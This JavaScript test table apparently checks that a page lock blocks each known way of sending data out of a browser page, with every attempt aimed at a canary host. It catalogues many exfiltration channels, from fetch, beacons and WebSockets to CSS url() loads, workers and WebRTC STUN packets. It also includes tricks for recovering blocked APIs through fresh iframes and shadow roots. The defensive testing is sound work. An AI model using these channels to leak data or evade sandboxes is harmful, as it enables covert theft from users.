// Every way out of a page that we know of, tried after the lock, and what must come of it.
//
// A way is `[name, wanted, attempt]`. The attempt runs in the page and gets `to(where)`, an address that says which way it is: at
// a canary on another port or, with `"own"`, at the host the page came from. It throws or returns `"absent"` where the browser or the page has no such thing.
//
// - `refused`: attempted, and no canary was asked.
// - `absent`: there is nothing to attempt it with.
// - `possible`: the canary was asked. README.md names these.

const element = (name, attributes) => `() => { const it = document.createElement(${JSON.stringify(name)}); for (const [key, value] of Object.entries(${attributes})) it.setAttribute(key, value); document.body.append(it); }`;
const worker = (code) => `() => new Promise((done) => {
  const code = ${code};
  const worker = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
  worker.onmessage = done; worker.onerror = done; setTimeout(done, 1500);
})`;
const link = (rel, more = "{}") => element("link", `{ rel: ${JSON.stringify(rel)}, href: to(), ...${more} }`);
const style = (css) => `() => { const it = document.createElement("style"); it.textContent = ${css}; document.head.append(it); document.body.append(Object.assign(document.createElement("p"), { className: "leak", textContent: "x" })); }`;
const sheet = (css) => `() => { const it = new CSSStyleSheet(); it.replaceSync(${css}); document.adoptedStyleSheets.push(it); const p = Object.assign(document.createElement("p"), { className: "leak", textContent: "x" }); document.body.append(p); p.getBoundingClientRect(); }`;

/** Each of these to the canary and to the page's own host. */
/** @type {[name: string, wanted: string, code: string][]} */
const BOTH = [
  ["fetch", "refused", "() => fetch(to())"],
  ["fetch, no-cors", "refused", "() => fetch(to(), { mode: 'no-cors', method: 'POST', body: 'text' })"],
  ["fetch, keepalive", "refused", "() => fetch(to(), { keepalive: true, mode: 'no-cors' })"],
  ["fetchLater", "refused", "() => typeof fetchLater === 'undefined' ? 'absent' : void fetchLater(to(), { activateAfter: 0 })"],
  ["XMLHttpRequest", "refused", "() => { const it = new XMLHttpRequest(); it.open('GET', to()); it.send(); }"],
  ["XMLHttpRequest, synchronous", "refused", "() => { const it = new XMLHttpRequest(); it.open('GET', to(), false); it.send(); }"],
  ["sendBeacon", "refused", "() => void navigator.sendBeacon(to(), 'text')"],
  ["EventSource", "refused", "() => void new EventSource(to())"],
  ["WebSocket", "refused", "() => void new WebSocket(to().replace('http', 'ws'))"],
  ["WebSocketStream", "refused", "() => typeof WebSocketStream === 'undefined' ? 'absent' : void new WebSocketStream(to().replace('http', 'ws'))"],
  ["WebTransport", "refused", "() => typeof WebTransport === 'undefined' ? 'absent' : new WebTransport(to().replace('http:', 'https:')).ready"],
  ["Image", "refused", "() => void (new Image().src = to())"],
  ["img srcset", "refused", element("img", "{ srcset: `${to()} 1x` }")],
  ["img lazy", "refused", element("img", "{ loading: 'lazy', src: to() }")],
  ["picture", "refused", "() => { const it = document.createElement('picture'); it.innerHTML = `<source srcset=\"${to()}\"><img>`; document.body.append(it); }"],
  ["innerHTML", "refused", "() => { const it = document.createElement('div'); it.innerHTML = `<img src=\"${to()}\">`; document.body.append(it); }"],
  ["input type=image", "refused", element("input", "{ type: 'image', src: to() }")],
  ["video", "refused", element("video", "{ src: to(), autoplay: '', muted: '' }")],
  ["video poster", "refused", element("video", "{ poster: to() }")],
  ["audio", "refused", "() => void new Audio(to()).play().catch(() => {})"],
  ["track", "refused", "() => { const it = document.createElement('video'); it.innerHTML = `<track default src=\"${to()}\">`; document.body.append(it); it.textTracks[0].mode = 'showing'; }"],
  ["svg image", "refused", "() => { const it = document.createElement('div'); it.innerHTML = `<svg><image href=\"${to()}\"></image></svg>`; document.body.append(it); }"],
  ["svg use", "refused", "() => { const it = document.createElement('div'); it.innerHTML = `<svg><use href=\"${to()}#x\"></use></svg>`; document.body.append(it); }"],
  ["svg feImage", "refused", "() => { const it = document.createElement('div'); it.innerHTML = `<svg width=9 height=9><filter id=f><feImage href=\"${to()}\"/></filter><rect width=9 height=9 filter=\"url(#f)\"/></svg>`; document.body.append(it); }"],
  ["background-image", "refused", "() => { const it = document.createElement('div'); it.style.cssText = 'width:9px;height:9px'; it.style.backgroundImage = `url(${to()})`; document.body.append(it); }"],
  ["list-style-image", "refused", "() => { const it = document.createElement('li'); it.style.listStyleImage = `url(${to()})`; document.body.append(it); }"],
  ["border-image", "refused", "() => { const it = document.createElement('div'); it.style.border = '3px solid'; it.style.borderImageSource = `url(${to()})`; document.body.append(it); }"],
  ["content: url()", "refused", sheet("`.leak::before { content: url(${to()}) }`")],
  ["cursor", "refused", "() => { document.body.style.cursor = `url(${to()}), auto`; }"],
  ["mask", "refused", "() => { const it = document.createElement('div'); it.style.cssText = 'width:9px;height:9px;background:red'; it.style.maskImage = `url(${to()})`; document.body.append(it); }"],
  ["filter: url()", "refused", "() => { const it = document.createElement('div'); it.style.filter = `url(${to()}#f)`; it.textContent = 'x'; document.body.append(it); }"],
  ["style attribute", "refused", element("div", "{ style: `width:9px;height:9px;background:url(${to()})` }")],
  ["style element", "refused", style("`.leak { background: url(${to()}) }`")],
  ["@import", "refused", style("`@import url(${to()});`")],
  ["adopted style sheet", "refused", sheet("`.leak { background: url(${to()}) }`")],
  ["@font-face", "refused", sheet("`@font-face { font-family: leak; src: url(${to()}) } .leak { font-family: leak }`")],
  ["FontFace", "refused", "() => new FontFace('leak', `url(${to()})`).load()"],
  ["stylesheet", "refused", link("stylesheet")],
  ["alternate stylesheet", "refused", link("alternate stylesheet", "{ title: 'x' }")],
  ["xml-stylesheet", "refused", "() => void document.insertBefore(document.createProcessingInstruction('xml-stylesheet', `href=\"${to()}\" type=\"text/css\"`), document.documentElement)"],
  ["prefetch", "refused", link("prefetch")],
  ["preload, fetch", "refused", link("preload", "{ as: 'fetch', crossorigin: '' }")],
  ["preload, image", "refused", link("preload", "{ as: 'image' }")],
  ["preload, font", "refused", link("preload", "{ as: 'font', crossorigin: '' }")],
  ["preload, script", "refused", link("preload", "{ as: 'script' }")],
  ["preload, style", "refused", link("preload", "{ as: 'style' }")],
  ["modulepreload", "refused", link("modulepreload")],
  ["prerender", "refused", link("prerender")],
  ["icon", "refused", link("icon")],
  ["apple-touch-icon", "refused", link("apple-touch-icon")],
  ["manifest", "refused", link("manifest")],
  ["compression-dictionary", "refused", link("compression-dictionary")],
  ["speculation rules", "refused", "() => { const it = document.createElement('script'); it.type = 'speculationrules'; it.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [to()], eagerness: 'immediate' }] }); document.head.append(it); }"],
  ["script", "refused", element("script", "{ src: to() }")],
  ["module script", "refused", element("script", "{ type: 'module', src: to() }")],
  ["import map", "refused", "() => { const it = document.createElement('script'); it.type = 'importmap'; it.textContent = JSON.stringify({ imports: { leak: to() } }); document.head.append(it); }"],
  ["import()", "refused", "() => import(to())"],
  ["eval of import()", "refused", "() => (0, eval)(`import(${JSON.stringify(to())})`)"],
  ["Worker", "refused", "() => void new Worker(to())"],
  ["module Worker", "refused", "() => void new Worker(to(), { type: 'module' })"],
  ["SharedWorker", "refused", "() => typeof SharedWorker === 'undefined' ? 'absent' : void new SharedWorker(to())"],
  ["service worker", "refused", "() => navigator.serviceWorker.register(to())"],
  ["audio worklet", "refused", "() => new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(to())"],
  ["paint worklet", "refused", "() => CSS.paintWorklet.addModule(to())"],
  ["worker: fetch", "refused", worker("`fetch(${JSON.stringify(to())}).finally(() => postMessage(1))`")],
  ["worker: XMLHttpRequest", "refused", worker("`const it = new XMLHttpRequest(); it.open('GET', ${JSON.stringify(to())}); it.onloadend = () => postMessage(1); it.send()`")],
  ["worker: WebSocket", "refused", worker("`new WebSocket(${JSON.stringify(to().replace('http', 'ws'))})`")],
  ["worker: EventSource", "refused", worker("`new EventSource(${JSON.stringify(to())})`")],
  ["worker: importScripts", "refused", worker("`importScripts(${JSON.stringify(to())})`")],
  ["worker: import()", "refused", worker("`import(${JSON.stringify(to())}).finally(() => postMessage(1))`")],
  ["worker: Worker", "refused", worker("`new Worker(${JSON.stringify(to())})`")],
  ["worker: FontFace", "refused", worker("`new FontFace('leak', 'url(${to()})').load().finally(() => postMessage(1))`")],
  ["worker of a data: address", "refused", "() => void new Worker(`data:text/javascript,fetch('${to()}')`)"],
  ["iframe", "absent", element("iframe", "{ src: to() }")],
  ["object", "absent", element("object", "{ data: to() }")],
  ["embed", "absent", element("embed", "{ src: to() }")],
  ["frame of innerHTML", "refused", "() => { const it = document.createElement('div'); it.innerHTML = `<iframe src=\"${to()}\"></iframe><object data=\"${to()}\"></object><embed src=\"${to()}\">`; document.body.append(it); }"],
  ["srcdoc of innerHTML", "refused", "() => { const it = document.createElement('div'); it.innerHTML = `<iframe srcdoc=\"<img src='${to()}'>\"></iframe>`; document.body.append(it); }"],
  ["base href", "refused", "() => { const base = document.createElement('base'); base.href = to(); document.head.prepend(base); return fetch('x').finally(() => base.remove()); }"],
  ["Cache API", "refused", "() => caches.open('x').then((it) => it.add(to()))"],
  ["report-uri", "refused", "() => { const it = document.createElement('meta'); it.httpEquiv = 'Content-Security-Policy'; it.content = `img-src 'none'; report-uri ${to()}`; document.head.append(it); new Image().src = '/x'; }"],
  ["WebAssembly.compileStreaming", "refused", "() => WebAssembly.compileStreaming(fetch(to()))"],
  ["XML with a style sheet", "absent", "() => { const it = new XSLTProcessor(); it.importStylesheet(new DOMParser().parseFromString(`<x xmlns:xi='y' href='${to()}'/>`, 'text/xml')); }"],
  ["window.open", "absent", "() => void window.open(to())"],
  ["Payment Request", "refused", "() => new PaymentRequest([{ supportedMethods: to().replace('http:', 'https:') }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment()"],
  ["Background Fetch", "absent", "() => typeof BackgroundFetchManager === 'undefined' ? 'absent' : navigator.serviceWorker.getRegistration().then((it) => it.backgroundFetch.fetch('x', [to()]))"],
  ["credential: FedCM", "refused", "() => navigator.credentials.get({ identity: { providers: [{ configURL: to(), clientId: 'x' }] }, signal: AbortSignal.timeout(40) })"],
  ["Notification icon", "refused", "() => void new Notification('x', { icon: to() })"],
  ["MediaSession artwork", "refused", "() => { navigator.mediaSession.metadata = new MediaMetadata({ title: 'x', artwork: [{ src: to() }] }); }"],
];

/** Each opens connections by UDP; the canary counts packets. */
const rtc = (take) => `async () => {
  const Peer = ${take};
  if (typeof Peer !== "function") return "absent";
  const peer = new Peer({ iceServers: [{ urls: stun }] });
  peer.createDataChannel("x");
  await peer.setLocalDescription(await peer.createOffer());
  await new Promise((done) => setTimeout(done, 700));
}`;
const frame = "document.createElement('iframe')";
/** @type {[name: string, wanted: string, code: string][]} */
const PACKETS = [
  ["RTCPeerConnection", "absent", rtc("window.RTCPeerConnection")],
  ["webkitRTCPeerConnection", "absent", rtc("window.webkitRTCPeerConnection")],
  ["WebRTC of an empty frame", "absent", rtc(`document.body.appendChild(${frame}).contentWindow.RTCPeerConnection`)],
  ["WebRTC of a frame by namespace", "absent", rtc("document.body.appendChild(document.createElementNS('http://www.w3.org/1999/xhtml', 'iframe')).contentWindow.RTCPeerConnection")],
  ["WebRTC of a frame of another document", "absent", rtc("document.body.appendChild(document.implementation.createHTMLDocument('').createElement('iframe')).contentWindow.RTCPeerConnection")],
  ["WebRTC of innerHTML", "absent", rtc("(() => { const it = document.createElement('div'); document.body.append(it); it.innerHTML = '<iframe></iframe>'; return window[0]?.RTCPeerConnection; })()")],
  ["WebRTC of insertAdjacentHTML", "absent", rtc("(() => { document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>'); return window[0]?.RTCPeerConnection; })()")],
  ["WebRTC of outerHTML", "absent", rtc("(() => { const it = document.createElement('div'); document.body.append(it); it.outerHTML = '<iframe></iframe>'; return window[0]?.RTCPeerConnection; })()")],
  ["WebRTC of a template", "absent", rtc("(() => { const it = document.createElement('template'); it.innerHTML = '<iframe></iframe>'; document.body.append(it.content.cloneNode(true)); return window[0]?.RTCPeerConnection; })()")],
  ["WebRTC of a fragment", "absent", rtc("(() => { document.body.append(document.createRange().createContextualFragment('<iframe></iframe>')); return window[0]?.RTCPeerConnection; })()")],
  ["WebRTC of DOMParser", "absent", rtc("(() => { document.body.append(new DOMParser().parseFromString('<iframe></iframe>', 'text/html').body); return window[0]?.RTCPeerConnection; })()")],
  ["WebRTC of a shadow root", "absent", rtc("(() => { const it = document.createElement('div'); document.body.append(it); it.attachShadow({ mode: 'closed' }).innerHTML = '<iframe></iframe>'; return window[0]?.RTCPeerConnection; })()")],
  ["WebRTC of setHTMLUnsafe", "absent", rtc("(() => { const it = document.createElement('div'); document.body.append(it); it.setHTMLUnsafe('<p><template shadowrootmode=open><iframe></iframe></template></p>'); return window[0]?.RTCPeerConnection; })()")],
  ["WebRTC of a window", "absent", rtc("window.open('about:blank').RTCPeerConnection")],
  ["WebRTC restored", "absent", rtc("(delete window.RTCPeerConnection, Object.defineProperty(window, 'RTCPeerConnection', { value: undefined }), window.RTCPeerConnection)")],
];

/** Each opens a connection and no more; the canary counts it. */
/** @type {[name: string, wanted: string, code: string][]} */
const CONNECTIONS = [
  ["preconnect", "refused", element("link", "{ rel: 'preconnect', href: bare }")],
  ["preconnect, crossorigin", "refused", element("link", "{ rel: 'preconnect', crossorigin: '', href: bare }")],
];

/** Each leaves the page, or tries to. */
/** @type {[name: string, wanted: string, code: string][]} */
const LEAVING = [
  ["location =", "possible", "() => { location = to(); }"],
  ["location.href", "possible", "() => { location.href = to(); }"],
  ["location.assign", "possible", "() => location.assign(to())"],
  ["location.replace", "possible", "() => location.replace(to())"],
  ["document.location", "possible", "() => { document.location = to(); }"],
  ["navigation.navigate", "possible", "() => void navigation.navigate(to())"],
  ["link", "possible", "() => { const it = document.createElement('a'); it.href = to(); document.body.append(it); it.click(); }"],
  ["link, new tab", "possible", "() => { const it = document.createElement('a'); it.href = to(); it.target = '_blank'; document.body.append(it); it.click(); }"],
  ["link, download", "possible", "() => { const it = document.createElement('a'); it.href = to(); it.download = 'x'; document.body.append(it); it.click(); }"],
  ["area", "possible", "() => { const it = document.createElement('area'); it.href = to(); document.body.append(it); it.click(); }"],
  ["svg link", "possible", "() => { const it = document.createElementNS('http://www.w3.org/2000/svg', 'a'); it.setAttribute('href', to()); document.body.append(it); it.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true })); }"],
  ["form", "refused", "() => { const it = document.createElement('form'); it.action = to(); it.method = 'post'; document.body.append(it); it.submit(); }"],
  ["form, GET", "refused", "() => { const it = document.createElement('form'); it.action = to(); it.innerHTML = '<input name=text value=x>'; document.body.append(it); it.requestSubmit(); }"],
  ["formaction", "refused", "() => { const it = document.createElement('form'); it.innerHTML = `<button formaction=\"${to()}\"></button>`; document.body.append(it); it.querySelector('button').click(); }"],
  ["ping", "refused", "() => { const it = document.createElement('a'); it.href = '#x'; it.ping = to(); document.body.append(it); it.click(); }"],
  ["meta refresh", "possible", "() => { const it = document.createElement('meta'); it.httpEquiv = 'refresh'; it.content = `0;url=${to()}`; document.head.append(it); }"],
];
/** @type {[name: string, wanted: string, code: string][]} */
const OWN_LEAVING = [["cookie and a reload", "possible", "() => { document.cookie = `text=${encodeURIComponent(to())}`; location.reload(); }"]];

export const WAYS = { BOTH, PACKETS, CONNECTIONS, LEAVING, OWN_LEAVING };
